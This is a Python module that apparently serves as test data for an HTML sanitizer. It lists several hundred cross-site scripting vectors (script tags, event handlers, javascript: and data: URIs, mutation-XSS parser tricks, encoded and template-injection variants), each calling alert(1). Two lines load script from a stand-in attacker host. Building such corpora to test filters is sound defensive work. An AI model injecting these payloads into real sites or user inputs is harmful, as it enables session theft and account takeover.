"""Ways in which people have made a browser run a stranger's text, by hand, each on its own.

Every vector calls alert(1), so that a browser which is told of alerts can say which of them ran.
"""

_TAGS = (
    r"""
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt >alert(1)</ScRiPt >
<script/x>alert(1)</script>
<script\x20type="text/javascript">alert(1)</script>
<script src="data:text/javascript,alert(1)"></script>
<script src=//evil.example/x.js></script>
<script type=module>alert(1)</script>
<script>alert(1)//
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
</iframe><script>alert(1)</script>
</template><script>alert(1)</script>
</xmp><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
*/</script><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<img src=x onerror=alert`1`>
<IMG SRC=x ONERROR=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=alert(1)//
<img src onerror=alert(1)>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror=&#x61;&#x6c;ert(1)>
<img src=x onerror="&#0000097lert(1)">
<img src=x onerror=window['al'+'ert'](1)>
<img src=x onerror=top[`al`+`ert`](1)>
<img src=x onerror="eval(atob('YWxlcnQoMSk='))">
<img src=x onerror=location='javascript:alert(1)'>
<img srcset=x onerror=alert(1)>
<img src=x alt="`onerror=alert(1)">
<img src=`x`onerror=alert(1)>
<img """
    + '"""'
    + r"""><script>alert(1)</script>">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<img src=x onload=alert(1) onerror=alert(1)>
<img src=x data-remote-src="x" onerror=alert(1)>
<img data-remote-src='" onerror=alert(1) x="'>
<img data-remote-src="javascript:alert(1)">
<img alt='"><img src=x onerror=alert(1)>'>
<img title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">
<image src=x onerror=alert(1)>
<picture><source srcset=x><img src=x onerror=alert(1)></picture>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x>
<svg><animateTransform onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>
<svg><image href=x onerror=alert(1)></image></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><discard onbegin=alert(1)>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><script>alert(1)</script></desc></svg>
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=alert(1)>"></style></annotation-xml></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><p title="</xmp><svg/onload=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><a title="</title><img src=x onerror=alert(1)>">
<style><a title="</style><img src=x onerror=alert(1)>">
<iframe><a title="</iframe><img src=x onerror=alert(1)>">
<select><style><img title="</style><img src=x onerror=alert(1)>"></style></select>
<template><style></template><img src=x onerror=alert(1)></style>
<!--><img src=x onerror=alert(1)>-->
<!--!><img src=x onerror=alert(1)>
<!-- --!><img src=x onerror=alert(1)>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<?php echo 1 ?><img src=x onerror=alert(1)>
</p/><img src=x onerror=alert(1)>
</a onmouseover=alert(1)><img src=x onerror=alert(1)>
<b<img src=x onerror=alert(1)>
<p title="x"onclick="alert(1)"><img src=x onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)><a href=#x>x</a>
<body background="javascript:alert(1)">
<html onmouseover=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe onload=alert(1)></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe src="java&#9;script:alert(1)"></iframe>
<frameset onload=alert(1)><frame src=x></frameset>
<embed src="javascript:alert(1)">
<embed src="data:text/html,<script>alert(1)</script>">
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object onerror=alert(1) data=x></object>
<applet code=x onerror=alert(1)>
<link rel=stylesheet href="data:text/css,*{color:red}" onload=alert(1)>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=preload as=image href=x onerror=alert(1)>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv=set-cookie content="a=<script>alert(1)</script>">
<base href="javascript:alert(1)//"><a href=/x>x</a>
<base href=//evil.example/><script src=x.js></script>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<input value="x" onfocus=alert(1) autofocus>
<input type=hidden accesskey=x onclick=alert(1)>
<button autofocus onfocus=alert(1)>x</button>
<button formaction=javascript:alert(1)>x</button>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<form action=javascript:alert(1)><input type=submit></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<isindex action=javascript:alert(1) type=image>
<details open ontoggle=alert(1)>x</details>
<video onerror=alert(1)><source></video>
<video src=x onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<video><source onerror=alert(1) src=x></video>
<audio src=x onerror=alert(1)></audio>
<audio controls autoplay onloadstart=alert(1) src=x></audio>
<track onerror=alert(1) src=x>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<div style="animation:x 1s" onanimationstart=alert(1)>x</div>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=alert(1)></p>
<div onpointerover=alert(1) style="position:fixed;inset:0">x</div>
<p tabindex=1 autofocus onfocus=alert(1)>x</p>
<x contenteditable autofocus onfocus=alert(1)>x</x>
<x onclick=alert(1) id=x tabindex=1>x</x>
<custom-element onfocus=alert(1) tabindex=0 autofocus></custom-element>
<composer-form onfocus=alert(1) tabindex=0 autofocus></composer-form>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<b popover onbeforetoggle=alert(1) id=p>x</b><button popovertarget=p>x</button>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>
<table><caption><img src=x onerror=alert(1)></caption></table>
<ol type="x" onmouseover=alert(1)><li><img src=x onerror=alert(1)></ol>
<font color='"><img src=x onerror=alert(1)>'>x</font>
<bgsound src="javascript:alert(1)">
<layer src="javascript:alert(1)"></layer>
<xml id=i><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>
<slot onslotchange=alert(1)><img src=x onerror=alert(1)></slot>
<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>
"""
)
_ATTRIBUTES = r"""
"><script>alert(1)</script>
'><script>alert(1)</script>
"><img src=x onerror=alert(1)>
'"><img src=x onerror=alert(1)>
" onfocus=alert(1) autofocus tabindex=1 x="
' onfocus=alert(1) autofocus tabindex=1 x='
" onmouseover="alert(1)
` onmouseover=alert(1) x=`
x onerror=alert(1)
"/><svg onload=alert(1)>
"]'><svg/onload=alert(1)>
" style="animation-name:x" onanimationstart="alert(1)
&quot;&gt;&lt;img src=x onerror=alert(1)&gt;
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
%3Cscript%3Ealert(1)%3C/script%3E
%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E
\x3cscript\x3ealert(1)\x3c/script\x3e
\u003cimg src=x onerror=alert(1)\u003e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
‹img src=x onerror=alert(1)›
\"><img src=x onerror=alert(1)>
\';alert(1)//
';alert(1);'
";alert(1);"
${alert(1)}
{{alert(1)}}
{{constructor.constructor('alert(1)')()}}
{% debug %}<img src=x onerror=alert(1)>
{{ html|safe }}<img src=x onerror=alert(1)>
#{alert(1)}
<%= alert(1) %>
[x](javascript:alert(1))
![x](x "onerror=alert(1)")
[x]: javascript:alert(1)
<javascript:alert(1)>
https://x.example/"onmouseover="alert(1)
https://x.example/<img src=x onerror=alert(1)>
http://x.example/?q='onfocus='alert(1)'autofocus='
mailto:x@x.example?subject=<img src=x onerror=alert(1)>
x@x.example"onmouseover=alert(1)//
<img src=x onerror=alert(1)>@x.example
"""
_LINKS = r"""
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script&colon;alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript://x.example/%0Aalert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="blob:javascript:alert(1)">x</a>
<a href="x" ping="javascript:alert(1)">x</a>
<a href="#" onclick="alert(1)">x</a>
<a href="http://x.example/" target="_self" onfocus=alert(1) autofocus>x</a>
<a xlink:href="javascript:alert(1)">x</a>
<area href="javascript:alert(1)" shape=default>
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite="data:text/html,<script>alert(1)</script>">x</q>
<ins cite="javascript:alert(1)" onclick=alert(1)>x</ins>
"""
_STYLES = r"""
<div style="background:url(javascript:alert(1))">x</div>
<div style="background-image:url('javascript:alert(1)')">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="behavior:url(#default#x);-moz-binding:url(data:,alert(1))">x</div>
<div style="xss:expr/**/ession(alert(1))">x</div>
<div style="color:red;}</style><img src=x onerror=alert(1)>">x</div>
<div style='font-family:"x" onmouseover=alert(1) x="'>x</div>
<div style="list-style:url(javascript:alert(1))">x</div>
<style>@import 'javascript:alert(1)';</style>
<style>body{background:url("javascript:alert(1)")}</style>
<style>*{x:expression(alert(1))}</style>
<style><!--</style><img src=x onerror=alert(1)>-->
<link rel=stylesheet href=javascript:alert(1)>
"""


def _lines(*blocks: str) -> tuple[str, ...]:
    return tuple(dict.fromkeys(line for block in blocks for line in block.strip().splitlines()))


TAGS, ATTRIBUTES, LINKS, STYLES = (_lines(block) for block in (_TAGS, _ATTRIBUTES, _LINKS, _STYLES))
VECTORS = (*TAGS, *ATTRIBUTES, *LINKS, *STYLES)
